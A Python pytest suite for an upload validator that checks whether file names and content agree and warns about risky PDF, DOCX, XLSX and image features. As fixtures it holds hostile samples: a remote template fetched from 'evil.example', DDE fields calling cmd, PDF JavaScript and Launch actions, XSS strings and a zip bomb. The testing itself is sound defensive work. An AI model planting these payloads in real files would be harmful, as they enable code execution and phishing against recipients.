"""What kind of file something is: its name and its content must agree; and what its reader is warned of."""

import io
import struct

import pytest
from documents import RELATIONS, archive, docx, located_picture, packed, pdf, picture, xlsx

from submissions import file_kinds
from submissions.file_kinds import DOCX, PDF, XLSX, NotAllowed

OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600)
ELSEWHERE = '<Relationship Id="r1" Type="{}" Target="https://evil.example/t.dotm" TargetMode="External"/>'
TEMPLATE = RELATIONS.format(ELSEWHERE.format("http://x/officeDocument/2006/relationships/attachedTemplate"))
A_LINK = RELATIONS.format(ELSEWHERE.format("http://x/officeDocument/2006/relationships/hyperlink"))


def kind_of(name, content):
    return file_kinds.media_type(name, io.BytesIO(content))


def refusal_of(name, content):
    with pytest.raises(NotAllowed) as refused:
        kind_of(name, content)
    return refused.value.code


def warnings(kind, content):
    return file_kinds.warnings(kind, io.BytesIO(content))


@pytest.mark.parametrize(
    ("name", "content", "kind"),
    [
        ("Report.PDF", pdf(), PDF),
        ("a.jpg", picture("JPEG"), "image/jpeg"),
        ("a.jpeg", picture("JPEG"), "image/jpeg"),
        ("a.png", picture("PNG"), "image/png"),
        ("a.webp", picture("WEBP"), "image/webp"),
        ("from a telephone.jpg", picture("WEBP"), "image/webp"),
        ("counts.csv", b"species,count\nMimus trifasciatus,-3\n", "text/csv"),
        ("counts.csv", "especie;n\nÁguila;3".encode("latin-1"), "text/csv"),
        ("notes.txt", b"\xef\xbb\xbfSeen < 3 birds\r\n\x1a", "text/plain"),
        ("notes.txt", "見た\n".encode("iso-2022-jp"), "text/plain"),
        ("notes.txt", "Ana saw 3".encode("utf-16"), "text/plain"),
        ("paper.docx", docx(), DOCX),
        ("counts.xlsx", xlsx(), XLSX),
    ],
)
def test_what_is_allowed_is_known_by_name_and_content(name, content, kind):
    assert kind_of(name, content) == kind


@pytest.mark.parametrize(
    ("name", "content", "code"),
    [
        ("a.pdf", b"", "empty"),
        ("a.html", b"<p>", "suffix"),
        ("a.svg", b"<svg/>", "suffix"),
        ("a.xml", b"<a/>", "suffix"),
        ("a.js", b"alert(1)", "suffix"),
        ("a.docm", docx(), "suffix"),
        ("a.pdf.exe", pdf(), "suffix"),
        ("a.doc", OLE, "suffix"),
        ("a", pdf(), "suffix"),
        (".pdf", pdf(), "suffix"),
        ("a.pdf", b"MZ\x90\x00", "content"),
        ("a.pdf", b"<html>%PDF-1.7", "content"),
        ("a.jpg", pdf(), "content"),
        ("a.jpg", b"GIF89a", "content"),
        ("a.jpg", b"RIFF\x00\x00\x00\x00WAVE", "content"),
        ("a.txt", b"MZ\x90\x00\x03", "content"),
        ("a.txt", b"\n <!DOCTYPE html><script>", "content"),
        ("a.csv", b"\xef\xbb\xbf<svg onload=alert(1)>", "content"),
        ("a.txt", b"<?xml version='1.0'?>", "content"),
        ("a.txt", b"\xff\xfea\x00\x00\xd8", "content"),
        ("a.txt", b"x" * 70_000 + b"\x01", "content"),
        ("a.docx", pdf(), "content"),
        ("a.docx", archive({"a.shp": "x"}), "content"),
        ("a.docx", xlsx(), "content"),
        ("a.docx", OLE, "old"),
        ("a.docx", docx(types="application/vnd.ms-word.document.macroEnabled.main+xml"), "macros"),
        ("a.docx", docx({"word/vbaProject.bin": "x"}), "macros"),
        ("a.docx", docx()[:-30], "damaged"),
        ("a.docx", b"PK\x03\x04" + bytes(100), "damaged"),
        ("a.png", picture("PNG")[:20], "damaged"),
        ("a.jpg", b"\xff\xd8\xff\xe0" + bytes(40), "damaged"),
    ],
)
def test_anything_else_is_refused_by_its_kind_of_fault(name, content, code):
    assert refusal_of(name, content) == code


def size_of_png(width, height):
    """A PNG whose head says that it is so large."""
    content = picture("PNG")
    head = b"IHDR" + struct.pack(">II", width, height) + content[24:29]
    return content[:12] + head + struct.pack(">I", file_kinds.zlib.crc32(head)) + content[33:]


@pytest.mark.parametrize(
    ("width", "height", "code"),
    [(10_000, 5_000, None), (10_000, 5_001, "pixels"), (10_000, 9_000, "pixels"), (40_000, 40_000, "pixels")],
)
def test_a_picture_has_at_most_fifty_megapixels(width, height, code):
    if code is None:
        assert kind_of("a.png", size_of_png(width, height)) == "image/png"
    else:
        assert refusal_of("a.png", size_of_png(width, height)) == code


def test_a_document_with_an_endless_table_of_contents_is_refused_before_it_is_read():
    content = docx()
    at = content.rfind(b"PK\x05\x06") + 12
    assert refusal_of("a.docx", content[:at] + struct.pack("<I", 2 << 20) + content[at + 4 :]) == "damaged"


def test_a_document_that_is_packed_to_burst_is_only_looked_into():
    bomb = docx({f"word/_rels/{number}.rels": bytes(12 << 20) for number in range(4)})

    assert len(bomb) < 200_000
    assert kind_of("a.docx", bomb) == DOCX
    assert warnings(DOCX, bomb) == []


@pytest.mark.parametrize(
    ("body", "codes"),
    [
        (b"", []),
        (b"<< /Type /Action /S /JavaScript /JS (app.alert(1)) >>", ["script"]),
        (b"<< /S /J#61vaScript >>", ["script"]),
        (b"<< /S /Launch >>", ["launch"]),
        (b"<< /Names << /EmbeddedFiles 3 0 R >> >>", ["embedded"]),
        (packed(b"<< /S /JavaScript >> << /S /Launch >>"), ["script", "launch"]),
        (b"<< /Type /ObjStm >>\nstream\nnot packed", []),
        (b"/JSON /LaunchPad /EmbeddedFiles2", []),
    ],
)
def test_a_reader_is_warned_of_what_a_pdf_does(body, codes):
    assert warnings(PDF, pdf(body)) == codes


def test_packed_objects_are_unpacked_within_bounds():
    many = b"".join(packed(bytes(1 << 20)) for _ in range(17)) + packed(b"<< /S /Launch >>")

    assert warnings(PDF, pdf(many)) == []


@pytest.mark.parametrize(
    ("kind", "content", "codes"),
    [
        (DOCX, docx(), []),
        (DOCX, docx({"word/_rels/settings.xml.rels": TEMPLATE}), ["external"]),
        (DOCX, docx({"word/_rels/document.xml.rels": A_LINK}), []),
        (DOCX, docx({"word/embeddings/a.bin": "x"}), ["embedded"]),
        (
            DOCX,
            archive({"word/document.xml": '<w:instrText xml:space="preserve"> DDE cmd "/c calc"'}),
            ["external"],
        ),
        (DOCX, archive({"word/document.xml": "<w:t>DDT and DDE were found</w:t>"}), []),
        (XLSX, xlsx({"xl/externalLinks/externalLink1.xml": '<ddeLink ddeService="cmd"/>'}), ["external"]),
        (XLSX, b"PK\x03\x04 no archive", []),
    ],
)
def test_a_reader_is_warned_of_what_a_document_fetches_and_holds(kind, content, codes):
    assert warnings(kind, content) == codes


@pytest.mark.parametrize("kind", ["JPEG", "PNG", "WEBP"])
def test_a_reader_is_warned_of_a_picture_that_tells_its_place(kind):
    media_type = f"image/{kind.lower()}"

    assert warnings(media_type, located_picture(kind)) == ["place"]
    assert warnings(media_type, picture(kind)) == []


def test_a_broken_picture_and_plain_text_warn_of_nothing():
    assert warnings("image/png", b"\x89PNG") == []
    assert warnings("text/csv", b"=1+1") == []


def test_a_document_with_a_password_is_damaged_rather_than_an_error():
    content = docx()
    for head, flags in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        at = content.find(head) + flags
        content = content[:at] + bytes([content[at] | 1]) + content[at + 1 :]

    assert refusal_of("a.docx", content) == "damaged"


@pytest.mark.parametrize(("name", "ending"), [("A.Pdf", ".pdf"), ("b.kml", ".kml"), ("c.exe", ""), ("d", "")])
def test_only_endings_that_are_known_are_kept(name, ending):
    assert file_kinds.suffix(name) == ending
